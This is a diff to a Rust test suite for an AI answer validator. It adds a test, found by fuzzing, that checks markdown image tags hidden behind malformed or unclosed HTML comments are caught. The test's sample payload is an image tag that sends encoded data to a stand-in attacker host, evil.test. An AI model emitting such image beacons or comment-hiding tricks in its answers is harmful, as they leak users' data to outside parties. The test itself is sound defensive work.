@@ -714,6 +714,39 @@ fn a_fence_left_open_at_the_end_is_closed() {
     assert_eq!(ids(c.findings()), ["link.image_off_allowlist"]);
 }
 
+/// What a browser skips as a comment hides nothing when a markdown renderer does
+/// not pass it through as HTML: a `<!`, `</ ` or `<?` that opens nothing, an
+/// unclosed `<!--`, or one whose end is past a blank line in a paragraph, is
+/// written as `&lt;`, and the tag after it is live (found from a `markup` fuzz
+/// failure: the tags after `<!` were skipped, and the same answer cut into other
+/// segments had them escaped). A comment that a renderer passes through stays.
+#[test]
+fn a_comment_a_renderer_escapes_hides_no_tag() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let img = "<img src=\"https://evil.test/x.png?d=aGVsbG8\">";
+    for open in [
+        "<!\n",
+        "<!-- ",
+        "<? ",
+        "</ ",
+        "<!-- x\n\n",
+        "<? x\r\n\r\n",
+        "<!x\n\n",
+    ] {
+        let answer = format!("Hi {open}{img} there\n\n-->?>");
+        let out = whole_outcome(&g, request(None), &answer).unwrap();
+        assert!(!out.contains("evil.test"), "{answer:?} -> {out:?}");
+        released_validates_clean(&g, &answer);
+    }
+    for answer in [
+        format!("<!-- x\n\n{img}\n\n-->"),
+        format!("Hi <!-- x\n{img}\n-->"),
+        format!("Hi <? x {img} ?>"),
+    ] {
+        assert_eq!(whole_outcome(&g, request(None), &answer).unwrap(), answer);
+    }
+}
+
 /// A reference definition that goes leaves the label to the next definition of
 /// it: that one is judged too, in the same segment or a later one (found by the
 /// `markup` fuzz target: a second definition in the next segment went out, and
@@ -929,7 +962,7 @@ fn answers_the_fuzzer_found_validate_clean_once_released() {
         released_validates_clean(&g, std::str::from_utf8(&bytes).unwrap());
         n += 1;
     }
-    assert_eq!(n, 6);
+    assert_eq!(n, 7);
 }
 
 #[test]
